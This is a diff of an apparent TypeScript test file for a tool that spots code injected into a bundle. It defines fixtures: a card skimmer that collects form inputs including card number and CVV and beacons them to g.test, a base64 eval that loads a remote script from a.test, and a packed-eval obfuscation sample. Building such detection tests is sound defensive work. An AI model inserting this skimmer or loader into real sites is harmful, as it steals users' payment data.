@@ -5,7 +5,8 @@ const line = (n: number) => `function step${n}(a,b){var total=a*${n}+b;return to
 const bundle = (from = 0) => Array.from({ length: 1_500 }, (_, n) => line(n + from)).join('')
 const skimmer = `;setInterval(function(){var d={};document.querySelectorAll('input').forEach(function(e){d[e.name]=e.value});if(d.cc_number&&d.cvv)new Image().src='https://g.test/?d='+btoa(JSON.stringify(d))},3e3);addEventListener('x',f)`
 const decoder = `;eval(atob('${Buffer.from(`document.write('<script src=https://a.test/x.js></script>')`).toString('base64')}'))`
-const packed = "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c]);return p}('0 1',2,2,'alert|me'.split('|'),0,{}))"
+const packed =
+  "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c]);return p}('0 1',2,2,'alert|me'.split('|'),0,{}))"
 const middle = (text: string, code: string) => text.slice(0, 50_000) + code + text.slice(50_000)
 
 describe('a file against its earlier version', () => {
